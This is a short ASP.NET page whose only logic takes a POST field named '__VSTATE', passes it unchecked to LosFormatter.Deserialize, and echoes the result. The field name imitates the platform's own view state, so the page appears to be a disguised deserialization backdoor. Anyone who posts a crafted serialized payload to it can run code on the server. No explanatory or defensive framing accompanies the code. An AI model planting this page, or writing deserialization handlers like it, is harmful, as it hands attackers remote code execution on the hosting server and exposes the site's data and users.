<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    string st = Request.Form["__VSTATE"];
    if (st != null) {
        var f = new System.Web.UI.LosFormatter();
        object o = f.Deserialize(st);
        Response.Write(o);
    }
}
</script>
